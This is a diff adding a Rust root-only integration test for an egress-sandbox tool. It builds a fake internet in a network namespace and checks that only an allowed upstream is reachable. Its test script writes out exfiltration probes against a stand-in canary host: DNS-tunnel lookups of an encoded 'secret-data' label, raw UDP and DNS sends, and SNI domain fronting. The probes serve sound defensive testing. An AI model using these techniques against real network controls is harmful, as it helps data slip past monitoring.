@@ -1,0 +1,280 @@
+//! `secureops run` end to end, as root: a fake internet in a network
+//! namespace the test creates (198.18.0.0/15 addresses), holding a TLS
+//! upstream for an allowed name and a TCP+UDP canary for a denied one.
+//! Inside the run, with every proxy variable unset, only the allowed
+//! upstream is reachable and the canary counts zero.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod support;
+
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Output, Stdio};
+use std::sync::atomic::{AtomicU32, Ordering};
+use std::time::{Duration, Instant};
+
+static NEXT: AtomicU32 = AtomicU32::new(0);
+
+fn is_root() -> bool {
+    Command::new("id").arg("-u").output().is_ok_and(|o| o.stdout.trim_ascii() == b"0")
+}
+
+fn sh(args: &[&str]) -> bool {
+    Command::new(args[0]).args(&args[1..]).stdout(Stdio::null()).stderr(Stdio::null()).status().is_ok_and(|s| s.success())
+}
+
+/// Two test hosts in their own namespace, linked to the host by a veth
+/// pair; removed (with their processes) on drop.
+struct FakeInternet {
+    ns: String,
+    allowed: String,
+    canary: String,
+    ca: PathBuf,
+    counts: PathBuf,
+    children: Vec<Child>,
+    dir: tempfile::TempDir,
+}
+
+impl FakeInternet {
+    /// `None` (with the reason printed) where namespaces are impossible.
+    fn start() -> Option<FakeInternet> {
+        if !is_root() {
+            eprintln!("SKIP: `secureops run` tests need root to build the fake internet (network namespaces, veth)");
+            return None;
+        }
+        let n = NEXT.fetch_add(1, Ordering::SeqCst);
+        let id = (std::process::id() % 10_000) * 10 + n;
+        let net = (std::process::id() * 7 + n * 31) % 250 + 1;
+        let ns = format!("sop{id}");
+        let (host_if, ns_if) = (format!("sop{id}h"), format!("sop{id}n"));
+        let dir = tempfile::tempdir().unwrap();
+        let fake = FakeInternet {
+            ns: ns.clone(),
+            allowed: format!("198.18.{net}.2"),
+            canary: format!("198.18.{net}.3"),
+            ca: dir.path().join("ca.pem"),
+            counts: dir.path().join("canary.json"),
+            children: Vec::new(),
+            dir,
+        };
+        let steps: Vec<Vec<String>> = vec![
+            vec!["ip", "netns", "add", &ns],
+            vec!["ip", "link", "add", &host_if, "type", "veth", "peer", "name", &ns_if],
+            vec!["ip", "link", "set", &ns_if, "netns", &ns],
+            vec!["ip", "addr", "add", &format!("198.18.{net}.1/24"), "dev", &host_if],
+            vec!["ip", "link", "set", &host_if, "up"],
+            vec!["ip", "netns", "exec", &ns, "ip", "link", "set", "lo", "up"],
+            vec!["ip", "netns", "exec", &ns, "ip", "addr", "add", &format!("{}/24", fake.allowed), "dev", &ns_if],
+            vec!["ip", "netns", "exec", &ns, "ip", "addr", "add", &format!("{}/24", fake.canary), "dev", &ns_if],
+            vec!["ip", "netns", "exec", &ns, "ip", "link", "set", &ns_if, "up"],
+        ]
+        .into_iter()
+        .map(|v| v.into_iter().map(str::to_owned).collect())
+        .collect();
+        for step in &steps {
+            let args: Vec<&str> = step.iter().map(String::as_str).collect();
+            if !sh(&args) {
+                eprintln!("SKIP: cannot build the fake internet ({})", args.join(" "));
+                return None;
+            }
+        }
+        let mut fake = fake;
+        let (cert, key) = (fake.dir.path().join("cert.pem"), fake.dir.path().join("key.pem"));
+        assert!(sh(&[
+            "openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "1",
+            "-subj", "/CN=allowed.test", "-addext", "subjectAltName=DNS:allowed.test",
+            "-keyout", key.to_str().unwrap(), "-out", cert.to_str().unwrap(),
+        ]));
+        std::fs::copy(&cert, &fake.ca).unwrap();
+        let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
+        let origin = Command::new("ip")
+            .args(["netns", "exec", &ns, "python3"])
+            .arg(fixtures.join("tls_origin.py"))
+            .args([&fake.allowed, cert.to_str().unwrap(), key.to_str().unwrap()])
+            .spawn()
+            .unwrap();
+        fake.children.push(origin);
+        let canary = Command::new("ip")
+            .args(["netns", "exec", &ns, "python3"])
+            .arg(fixtures.join("canary.py"))
+            .args([&fake.canary, fake.counts.to_str().unwrap()])
+            .spawn()
+            .unwrap();
+        fake.children.push(canary);
+        let deadline = Instant::now() + Duration::from_secs(10);
+        while !(fake.counts.exists() && std::net::TcpStream::connect((fake.allowed.as_str(), 443)).is_ok()) {
+            assert!(Instant::now() < deadline, "fake internet did not come up");
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        Some(fake)
+    }
+
+    /// (TCP connections, UDP datagrams, bytes) seen by the canary.
+    fn canary(&self) -> (u64, u64, u64) {
+        std::thread::sleep(Duration::from_millis(200));
+        let v: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&self.counts).unwrap()).unwrap();
+        (v["tcp"].as_u64().unwrap(), v["udp"].as_u64().unwrap(), v["bytes"].as_u64().unwrap())
+    }
+
+    fn config(&self) -> PathBuf {
+        let path = self.dir.path().join("secureops.toml");
+        std::fs::write(
+            &path,
+            format!(
+                "[network]\negress_allowlist = [\"allowed.test\"]\nprivate_destinations = [\"198.18.0.0/15\"]\n\
+                 [dns]\nupstream = []\nhosts = {{ \"allowed.test\" = [\"{}\"], \"denied.test\" = [\"{}\"] }}\n",
+                self.allowed, self.canary
+            ),
+        )
+        .unwrap();
+        path
+    }
+}
+
+impl Drop for FakeInternet {
+    fn drop(&mut self) {
+        for c in &mut self.children {
+            let _ = c.kill();
+            let _ = c.wait();
+        }
+        // Deleting the namespace removes the veth pair with it.
+        let _ = Command::new("ip").args(["netns", "del", &self.ns]).status();
+    }
+}
+
+/// `secureops run -c CONFIG --audit LOG -- sh -c SCRIPT`, proxy variables unset.
+fn run(config: &Path, log: &Path, script: &str) -> Output {
+    let mut c = Command::new(support::bin());
+    c.arg("run").arg("-c").arg(config).arg("--audit").arg(log).args(["--", "sh", "-c", script]);
+    for v in ["HTTPS_PROXY", "HTTP_PROXY", "ALL_PROXY", "https_proxy", "http_proxy", "all_proxy", "NO_PROXY", "no_proxy"] {
+        c.env_remove(v);
+    }
+    c.output().unwrap()
+}
+
+#[test]
+fn only_the_allowed_upstream_is_reachable_from_inside_a_run() {
+    let Some(net) = FakeInternet::start() else { return };
+    let config = net.config();
+    let log = net.dir.path().join("audit.jsonl");
+    let ca = net.ca.display();
+    let canary = &net.canary;
+    let script = format!(
+        r#"unset HTTPS_PROXY HTTP_PROXY ALL_PROXY https_proxy http_proxy all_proxy
+echo "ALLOWED=$(curl -sS -m 10 --cacert {ca} https://allowed.test/)"
+echo "NODE=$(NODE_EXTRA_CA_CERTS={ca} node -e 'fetch("https://allowed.test/").then(r=>r.text()).then(t=>process.stdout.write(t)).catch(e=>process.stdout.write("ERR "+e+" "+e.cause))')"
+curl -sS -m 5 --noproxy '*' --cacert {ca} https://denied.test/ >/dev/null 2>&1 && echo DENIED_NAME=reached || echo DENIED_NAME=blocked
+curl -sS -m 5 -k https://{canary}/ >/dev/null 2>&1 && echo CANARY_IP=reached || echo CANARY_IP=blocked
+curl -sS -m 5 http://{canary}/ >/dev/null 2>&1 && echo CANARY_HTTP=reached || echo CANARY_HTTP=blocked
+python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("{canary}", 9999))' 2>/dev/null && echo UDP=sent || echo UDP=blocked
+python3 -c 'import socket; socket.getaddrinfo("c2VjcmV0LWRhdGE.denied.test", 443)' 2>/dev/null && echo DNS=resolved || echo DNS=blocked
+python3 -c '
+import socket
+q = bytes.fromhex("1234010000010000000000000664656e69656404746573740000010001")
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
+s.sendto(q, ("{canary}", 53)); r = s.recv(512)
+print("DNS_AT_CANARY_RCODE=%d" % (r[3] & 15))'
+echo "FRONTED=$(curl -sS -m 10 --cacert {ca} --resolve allowed.test:443:{canary} https://allowed.test/)"
+"#
+    );
+    let out = run(&config, &log, &script);
+    let text = String::from_utf8_lossy(&out.stdout);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "run failed: {text}\n{err}");
+    assert!(text.contains("ALLOWED=hello from the allowed upstream"), "{text}\n{err}");
+    assert!(text.contains("NODE=hello from the allowed upstream"), "{text}\n{err}");
+    for line in ["DENIED_NAME=blocked", "CANARY_IP=blocked", "CANARY_HTTP=blocked", "UDP=blocked", "DNS=blocked", "DNS_AT_CANARY_RCODE=3"] {
+        assert!(text.contains(line), "missing {line}: {text}\n{err}");
+    }
+    // An SNI naming the allowed host while dialling the canary's IP ends at
+    // the real allowed upstream: the proxy resolves the name itself.
+    assert!(text.contains("FRONTED=hello from the allowed upstream"), "{text}\n{err}");
+    assert_eq!(net.canary(), (0, 0, 0), "the canary saw traffic");
+    // Every decision of the run is attributed to the client process.
+    let entries: Vec<_> = support::read_entries(&log).into_iter().filter(|e| e["kind"] == "egress" || e["kind"] == "dns").collect();
+    assert!(entries.len() >= 8, "{entries:?}");
+    for e in &entries {
+        let exe = e["exe"].as_str().unwrap_or_default();
+        let name = exe.rsplit('/').next().unwrap_or_default();
+        assert!(e["pid"].as_u64().is_some(), "no pid: {e}");
+        assert!(name == "curl" || name == "node" || name.starts_with("python3"), "exe {exe:?} in {e}");
+    }
+    let vias: Vec<_> = entries.iter().filter(|e| e["kind"] == "egress").map(|e| e["via"].as_str().unwrap_or("")).collect();
+    assert!(vias.contains(&"sni") && vias.contains(&"ip"), "{vias:?}");
+    let verify = support::secureops(&["audit", "verify", log.to_str().unwrap()], net.dir.path());
+    assert!(verify.status.success(), "{}", String::from_utf8_lossy(&verify.stdout));
+}
+
+#[test]
+fn run_exits_with_the_command_status_and_leaves_nothing_behind() {
+    let Some(net) = FakeInternet::start() else { return };
+    let config = net.config();
+    let log = net.dir.path().join("audit.jsonl");
+    let out = run(&config, &log, "exit 7");
+    assert_eq!(out.status.code(), Some(7), "{}", String::from_utf8_lossy(&out.stderr));
+    let out = run(&config, &log, "kill -TERM $$");
+    assert_eq!(out.status.code(), Some(128 + 15));
+    // Nothing of the run remains on the host: no nftables table, no helper.
+    let tables = Command::new("nft").args(["list", "tables"]).output().unwrap();
+    assert!(!String::from_utf8_lossy(&tables.stdout).contains("secureops"));
+    let ps = Command::new("ps").args(["-eo", "args"]).output().unwrap();
+    assert!(!String::from_utf8_lossy(&ps.stdout).lines().any(|l| l.contains("__ns-child") && !l.contains("ps -eo")));
+    // Two runs at once do not collide.
+    let a = {
+        let (c, l) = (config.clone(), net.dir.path().join("a.jsonl"));
+        std::thread::spawn(move || run(&c, &l, "sleep 1; exit 3").status.code())
+    };
+    let b = run(&config, &net.dir.path().join("b.jsonl"), "sleep 1; exit 4").status.code();
+    assert_eq!((a.join().unwrap(), b), (Some(3), Some(4)));
+}
+
+#[test]
+fn tier_reports_kernel_enforcement_as_root() {
+    if !is_root() {
+        eprintln!("SKIP: tier is kernel-enforced only where namespaces can be created (tested as root)");
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let out = support::secureops(&["tier"], dir.path());
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(text.split_whitespace().next(), Some("kernel-enforced"), "{text}");
+    let out = support::secureops(&["tier", "--json"], dir.path());
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(v["tier"], "kernel-enforced");
+}
+
+#[test]
+fn an_ordinary_user_is_confined_through_a_user_namespace() {
+    let Some(net) = FakeInternet::start() else { return };
+    let probe = Command::new("setpriv")
+        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "unshare", "--user", "--map-root-user", "--net", "true"])
+        .status();
+    if !probe.is_ok_and(|s| s.success()) {
+        eprintln!("SKIP: unprivileged user namespaces are disabled on this machine");
+        return;
+    }
+    // A folder the unprivileged user can write.
+    let work = tempfile::tempdir().unwrap();
+    std::fs::set_permissions(work.path(), std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
+    let config = work.path().join("c.toml");
+    std::fs::copy(net.config(), &config).unwrap();
+    std::fs::set_permissions(&config, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
+    let script = format!(
+        "curl -sS -m 5 --cacert /dev/null -k https://allowed.test/ ; \
+         curl -sS -m 5 --noproxy '*' -k https://{canary}/ >/dev/null 2>&1 && echo CANARY=reached || echo CANARY=blocked",
+        canary = net.canary
+    );
+    let out = Command::new("setpriv")
+        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "env", "HOME=/nonexistent"])
+        .arg(support::bin())
+        .args(["run", "-c"])
+        .arg(&config)
+        .args(["--", "sh", "-c", &script])
+        .current_dir(work.path())
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(out.status.success(), "{text}\n{}", String::from_utf8_lossy(&out.stderr));
+    assert!(text.contains("hello from the allowed upstream"), "{text}");
+    assert!(text.contains("CANARY=blocked"), "{text}");
+    assert_eq!(net.canary(), (0, 0, 0));
+}
